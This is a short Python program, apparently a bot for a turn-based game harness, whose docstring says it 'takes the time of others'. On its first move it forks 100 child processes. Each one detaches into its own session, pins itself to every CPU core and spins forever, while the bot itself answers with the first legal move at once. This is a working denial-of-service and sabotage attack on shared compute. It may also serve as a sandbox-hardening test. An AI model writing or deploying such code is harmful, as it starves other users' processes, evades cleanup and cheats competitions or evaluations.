"""A bot that takes the time of others: children in sessions of their own, on
every core, that burn for ever, whoever is to move. It answers at once."""
import os
import sys

CHILDREN = 100


def burn():
    for attempt in (os.setsid, lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1))):
        try:
            attempt()
        except OSError:
            pass
    while True:
        pass


for line in sys.stdin:
    moves = line.rstrip("\n").split(" | ")
    if len(moves) != 4:
        continue
    for _ in range(CHILDREN):
        try:
            if os.fork() == 0:
                burn()
        except OSError:
            break
    CHILDREN = 0
    print(moves[3].split()[0], flush=True)
